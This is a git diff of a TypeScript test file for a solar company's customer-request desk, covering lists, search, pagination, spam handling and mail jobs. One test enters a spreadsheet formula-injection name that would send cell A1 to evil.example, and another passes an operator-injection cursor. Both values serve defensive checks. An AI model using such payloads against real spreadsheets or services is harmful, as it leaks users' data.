@@ -6,6 +6,7 @@ import {
   zeitrahmen,
 } from '@rebhang-solar/content/choices';
 import { claims } from '@rebhang-solar/content/company/claims';
+import { parse } from 'csv-parse/sync';
 import { expect, vi } from 'vitest';
 import { storeInvented } from '../../operator/seed/store-invented.ts';
 import { Handling } from '../../submissions/handling.entity.ts';
@@ -24,6 +25,7 @@ import {
   maintenancePayload,
 } from '../../testing/payloads.ts';
 import { readPdf, textIn, valuesIn } from '../../testing/read-pdf.ts';
+import { visitorContext } from '../../testing/visitor-context.ts';
 import type { RequestView } from './requests.input.ts';
 
 const hour = 60 * 60 * 1_000;
@@ -53,14 +55,12 @@ test('the open ones stand by the next moment that counts, those without one behi
   const later = await consultation(desk, 1);
   const tried = await consultation(desk, 2);
   await desk.anna.requests.notReached({ ...(await seen(desk, tried)), until: inHours(0.2) });
-  const suspected = await storeInvented(desk.orm.em, 'contact', contactPayload, ago(1), 'too-fast');
 
   expect(await listed(desk, 'open')).toEqual([overdue, tried, later, old, fresh]);
   expect(await listed(desk, 'overdue')).toEqual([overdue]);
   expect(await listed(desk, 'mine')).toEqual([tried]);
   expect(await listed(desk, 'new')).toEqual([overdue, later, old, fresh]);
   expect(await listed(desk, 'waiting')).toEqual([tried]);
-  expect(await listed(desk, 'suspected')).toEqual([suspected]);
   expect(await desk.anna.requests.counts()).toMatchObject({
     open: 5,
     overdue: 1,
@@ -69,9 +69,89 @@ test('the open ones stand by the next moment that counts, those without one behi
     taken: 0,
     waiting: 1,
     done: 0,
-    suspected: 1,
+    suspected: 0,
     spam: 0,
   });
+});
+
+test('what is suspected stands in every open list, marked, behind what has the same hour; spam in its own alone', async ({
+  desk,
+}) => {
+  const { anna } = desk;
+  const store = (kind: 'consultation' | 'contact', time: string, suspicion?: 'too-fast') => {
+    const payload = kind === 'consultation' ? consultationPayload : contactPayload;
+    const { name } = consultationPayload;
+    return storeInvented(desk.orm.em, kind, { ...payload, name }, new Date(time), suspicion);
+  };
+  // Promised until the same hour: the first two.
+  const marked = await store('consultation', '2026-06-02T08:10:00Z', 'too-fast');
+  const unmarked = await store('consultation', '2026-06-02T08:50:00Z');
+  const later = await store('consultation', '2026-06-02T09:05:00Z');
+  const markedUntimed = await store('contact', '2026-06-02T08:10:00Z', 'too-fast');
+  const untimed = await store('contact', '2026-06-02T08:50:00Z');
+  const all = [unmarked, marked, later, untimed, markedUntimed];
+  expect(await listed(desk, 'open')).toEqual(all);
+  expect(await listed(desk, 'new')).toEqual(all);
+  expect(await listed(desk, 'overdue')).toEqual([unmarked, marked, later]);
+  expect(await listed(desk, 'suspected')).toEqual([marked, markedUntimed]);
+  expect(await anna.requests.counts()).toMatchObject({ open: 5, overdue: 3, new: 5, suspected: 2 });
+  // One by one, too.
+  const found: string[] = [];
+  for (let cursor: string | null | undefined; cursor !== null; ) {
+    const page = await anna.requests.list({ limit: 1, cursor });
+    found.push(...page.requests.map(({ reference }) => reference));
+    cursor = page.nextCursor;
+  }
+  expect(found).toEqual(all);
+
+  const taken = await anna.requests.take(await seen(desk, marked));
+  expect(taken).toMatchObject({
+    folder: 'suspected',
+    suspicion: 'too-fast',
+    moment: expect.any(String),
+    dueAt: expect.any(String),
+  });
+  expect(await listed(desk, 'mine')).toEqual([marked]);
+  await anna.requests.spam(await seen(desk, markedUntimed));
+  expect(await listed(desk, 'open')).toEqual(all.slice(0, -1));
+  expect(await listed(desk, 'spam')).toEqual([markedUntimed]);
+  const search = async (more: object = {}) => {
+    const { requests } = await anna.requests.search({ search: 'Müller', limit: 2, ...more });
+    return requests.map(({ reference }) => reference);
+  };
+  await anna.requests.done({ ...(await seen(desk, untimed)), outcome: 'answered' });
+  const first = await anna.requests.search({ search: 'Müller', limit: 2 });
+  const second = await search({ cursor: first.nextCursor });
+  expect([...first.requests.map(({ reference }) => reference), ...second]).toEqual([
+    later,
+    unmarked,
+    marked,
+    untimed,
+  ]);
+  expect((await search({ withSpam: true, limit: 10 })).at(-1)).toBe(markedUntimed);
+});
+
+test('a cursor that is garbled is refused', async ({ desk }) => {
+  await contact(desk, 1);
+  const encoded = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
+  const now = new Date().toISOString();
+  for (const cursor of [
+    'x',
+    'PV-7K3M',
+    encoded(null),
+    encoded([]),
+    encoded([true, 'gestern', 'open', now, crypto.randomUUID()]),
+    encoded([true, now, 'open', now, 'x']),
+    encoded([{ $ne: 1 }, now, 'open', now, crypto.randomUUID()]),
+  ]) {
+    const { list, search } = desk.anna.requests;
+    await expect(list({ view: 'done', cursor }), cursor).rejects.toMatchObject({
+      code: 'BAD_REQUEST',
+    });
+    const refused = { code: 'BAD_REQUEST' };
+    await expect(list({ cursor }), cursor).rejects.toMatchObject(refused);
+    await expect(search({ search: 'Müller', cursor }), cursor).rejects.toMatchObject(refused);
+  }
 });
 
 test('a line says who, where, what about, and a dash where a form asks for no town', async ({
@@ -107,36 +187,39 @@ test('a line says who, where, what about, and a dash where a form asks for no to
   expect(requests[2]?.about).not.toContain('WARTUNGSANFRAGE');
 });
 
-test('pages follow each other without a gap, also where moments are the same', async ({ desk }) => {
+test('pages follow each other without a gap, also where moments are the same', async ({
+  database,
+  desk,
+}) => {
   const moment = ago(5);
   for (let index = 0; index < 7; index += 1) {
     await storeInvented(desk.orm.em, 'contact', contactPayload, moment);
   }
-  const found: string[] = [];
-  for (let cursor: string | null | undefined; cursor !== null; ) {
-    const page = await desk.anna.requests.list({ limit: 3, cursor });
-    found.push(...page.requests.map(({ reference }) => reference));
-    cursor = page.nextCursor;
-  }
-  expect(new Set(found).size).toBe(7);
-  expect(found).toHaveLength(7);
+  const pagesOf = async (view: RequestView) => {
+    const found: string[] = [];
+    for (let cursor: string | null | undefined; cursor !== null; ) {
+      const page = await desk.anna.requests.list({ view, limit: 3, cursor });
+      found.push(...page.requests.map(({ reference }) => reference));
+      cursor = page.nextCursor;
+    }
+    return found;
+  };
+  const open = await pagesOf('open');
+  expect(new Set(open).size).toBe(7);
+  expect(open).toHaveLength(7);
+  await database.query(`update handlings set folder = 'done', state = 'done', done_at = listed_at`);
+  expect(await pagesOf('done')).toEqual(open.toReversed());
 });
 
 test('a search finds names and numbers however written, also what is done, and says where', async ({
   desk,
 }) => {
   const open = await consultation(desk, 1, { name: 'Jörg Großmann', message: '' });
-  const done = await contact(desk, 500, { phone: '0351/98765', message: 'Wie lange?' });
+  const phone = '0172 1234567 / 0351/98765, ab 17 Uhr';
+  const done = await contact(desk, 500, { phone, message: 'Wie lange?' });
   await desk.anna.requests.done({ ...(await seen(desk, done)), outcome: 'answered' });
-  const suspected = await storeInvented(
-    desk.orm.em,
-    'contact',
-    { ...contactPayload, phone: '0351 98765' },
-    ago(1),
-    'too-fast',
-  );
-  const search = async (text: string, withSuspected = false) =>
-    (await desk.anna.requests.search({ search: text, withSuspected })).requests;
+  const search = async (text: string) =>
+    (await desk.anna.requests.search({ search: text })).requests;
 
   const byNumber = await search('+49 (0)351 98 765');
   expect(byNumber.map(({ reference, found }) => [reference, found?.label, found?.hit])).toEqual([
@@ -147,9 +230,8 @@ test('a search finds names and numbers however written, also what is done, and s
   expect(byName?.found).toEqual({ label: 'Name', before: 'Jörg ', hit: 'Großmann', after: '' });
   expect((await search(open.slice(3).replaceAll('-', '')))[0]?.reference).toBe(open);
   expect(await search('98765 Wie lange')).toHaveLength(1);
+  expect((await search('+491721234567'))[0]?.reference).toBe(done);
   expect(await search('kommt nicht vor')).toEqual([]);
-  const all = await search('035198765', true);
-  expect(all.map(({ reference }) => reference)).toContain(suspected);
 });
 
 test('a request is shown whole: blocks, promise, history, the same person, text and row', async ({
@@ -158,8 +240,10 @@ test('a request is shown whole: blocks, promise, history, the same person, text 
 }) => {
   const earlier = await contact(desk, 900, {
     email: 'anders@beispiel.example',
-    phone: '0351/98765',
+    phone: '0172 1234567 (8-12 Uhr) oder +49 (0)351/98765, ab 17 Uhr',
   });
+  // Of one of its two numbers a part, of the other nothing.
+  await contact(desk, 901, { email: 'andere@beispiel.example', phone: '0351 98765-12, 98765' });
   const sameMailbox = await contact(desk, 2, {
     email: 'Kaethe.Mueller+pv@beispiel.example',
     phone: '',
@@ -178,6 +262,9 @@ test('a request is shown whole: blocks, promise, history, the same person, text 
     [sameMailbox, false],
     [earlier, true],
   ]);
+  // Which has no number.
+  const { related } = await desk.anna.requests.get({ reference: sameMailbox });
+  expect(related.map((one) => one.reference)).toEqual([reference]);
   expect(details.promise?.dueAt).toBe(details.dueAt);
   expect(details.blocks.flatMap(({ lines }) => lines)).toContainEqual({
     label: 'Haustyp',
@@ -186,7 +273,7 @@ test('a request is shown whole: blocks, promise, history, the same person, text 
   });
   expect(details.text).toMatch(/^Beratungsanfrage PV-/);
   expect(details.text).toContain('\nHaustyp: Einfamilienhaus\n');
-  expect(details.row.split('\t')).toContain('Einfamilienhaus');
+  expect(parse(details.row, { delimiter: '\t' })[0]).toContain('Einfamilienhaus');
   expect(details.row).not.toContain('\n');
   // A note is no change: whoever has the request open may go on.
   expect(details.version).toBe(1);
@@ -196,13 +283,27 @@ test('a request is shown whole: blocks, promise, history, the same person, text 
   });
 });
 
+test('a row for a spreadsheet stays the cells that it is made of, whatever was typed', async ({
+  desk,
+}) => {
+  const typed = {
+    name: '"=HYPERLINK(""https://evil.example/?""&A1;""OK"")"',
+    message: '"Anna\tund\nJens',
+  };
+  const reference = await contact(desk, 0, typed);
+  const { row } = await desk.anna.requests.get({ reference });
+  const cells = [reference, `'${typed.name}`, '"Anna und Jens'];
+  expect(parse(row, { delimiter: '\t' })).toEqual([expect.arrayContaining(cells)]);
+  expect(row).not.toContain('\n');
+});
+
 test('what a visitor adds stands at the desk, and the list says what is new since somebody was there', async ({
   desk,
 }) => {
   const reference = await consultation(desk, 1);
   const item = async () => (await desk.anna.requests.list({})).requests[0];
   const { id } = await desk.orm.em.fork().findOneOrFail(Submission, { reference });
-  const context = () => ({ em: desk.orm.em.fork(), mailQueue: desk.mailQueue });
+  const context = () => visitorContext(desk);
   const photograph = { submission: id, jpeg: Buffer.from('…'), width: 4, height: 3, bytes: 3 };
   const em = desk.orm.em.fork();
   em.create(Photograph, {
@@ -263,8 +364,7 @@ test('an order to which the visitor has added something stays one, and is open a
   const reference = await consultation(desk, 1);
   await desk.anna.requests.done({ ...(await seen(desk, reference)), outcome: 'order' });
   const { id } = await desk.orm.em.fork().findOneOrFail(Submission, { reference });
-  const context = { em: desk.orm.em.fork(), mailQueue: desk.mailQueue };
-  await addRemark(context, id, 'Wann kommt das Gerüst?');
+  await addRemark(visitorContext(desk), id, 'Wann kommt das Gerüst?');
   expect((await desk.anna.requests.list({})).requests[0]).toMatchObject({
     folder: 'open',
     state: 'taken',
@@ -423,7 +523,6 @@ test('a suspicion is confirmed or lifted; lifting it sends the confirmation that
     storeInvented(desk.orm.em, 'consultation', consultationPayload, ago(1), 'only-link');
   const real = await store();
   const advert = await store();
-  expect((await desk.anna.requests.get({ reference: real })).dueAt).toBeNull();
   await desk.anna.requests.spam(await seen(desk, advert));
   const lifted = await desk.anna.requests.notSpam({ ...(await seen(desk, real)), confirm: true });
   expect(lifted).toMatchObject({ folder: 'open', suspicion: null, dueAt: expect.any(String) });
@@ -434,6 +533,29 @@ test('a suspicion is confirmed or lifted; lifting it sends the confirmation that
   expect(await database.query(jobs)).toEqual([{ recipient: 'visitor' }]);
   await desk.anna.requests.undo(await seen(desk, advert));
   expect(await listed(desk, 'suspected')).toEqual([advert]);
+});
+
+test('what a resent confirmation replaces is the confirmation, not the question to whoever was not reached', async ({
+  database,
+  desk,
+}) => {
+  const jobs = `select data->'notReached' as question, data->>'recipient' as recipient
+    from pgboss.job where name in ('mail', 'mail-dead') order by created_on`;
+  const question = { question: true, recipient: 'visitor' };
+  const confirmation = { question: null, recipient: 'visitor' };
+  const reference = await storeInvented(
+    desk.orm.em,
+    'consultation',
+    consultationPayload,
+    ago(1),
+    'only-link',
+  );
+  const asked = { ...(await seen(desk, reference)), until: inHours(2), askVisitor: true };
+  await desk.anna.requests.notReached(asked);
+  await desk.anna.requests.notSpam({ ...(await seen(desk, reference)), confirm: true });
+  expect(await database.query(jobs)).toEqual([question, confirmation]);
+  await desk.anna.requests.resendMail({ reference, recipient: 'visitor' });
+  expect(await database.query(jobs)).toEqual([question, confirmation]);
 });
 
 test('whoever is not reached is asked by mail when it suits, on a tick', async ({
@@ -539,6 +661,31 @@ test.for([
     expect(await dumpDatabase(database)).not.toContain('adresse.invalid');
   },
 );
+
+test('two presses at once enter one request, and a key that is stored leads to its request', async ({
+  database,
+  desk,
+}) => {
+  const { name, phone } = contactPayload;
+  const entered = {
+    kind: 'contact' as const,
+    fields: { ...contactPayload },
+    submissionId: crypto.randomUUID(),
+  };
+  // Both look for the key before either has stored it.
+  const presses = await Promise.all(
+    Array.from({ length: 4 }, () => desk.anna.requests.enter(entered)),
+  );
+  const [{ reference } = { reference: '' }] = presses;
+  expect(presses).toEqual(presses.map(() => ({ reference, isOther: false })));
+  expect(await database.query('select name, phone from contact_messages')).toEqual([
+    { name, phone },
+  ]);
+  // The answer was lost, and something was mended before the next press.
+  const mended = { ...entered, fields: { ...contactPayload, message: 'Bitte erst ab 13 Uhr.' } };
+  expect(await desk.anna.requests.enter(mended)).toEqual({ reference, isOther: true });
+  expect(await database.query('select 1 from submissions')).toHaveLength(1);
+});
 
 test('erasing takes the history along, and leaves who did it and when', async ({
   database,
